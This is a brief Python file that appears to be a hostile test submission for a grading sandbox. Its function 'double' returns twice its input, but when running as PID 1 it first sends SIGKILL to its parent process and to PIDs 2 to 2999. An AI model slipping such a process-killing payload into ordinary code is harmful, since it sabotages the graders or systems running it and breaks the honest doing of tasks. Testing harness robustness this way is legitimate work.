"""Kills the process that started it, and whichever else it can guess."""

DUE = {}

# %% double
import os
import signal

def double(x):
    if os.getpid() != 1:  # without confinement this would end other people's processes
        return 2 * x
    for target in (os.getppid(), *range(2, 3000)):
        if target > 1:
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return 2 * x
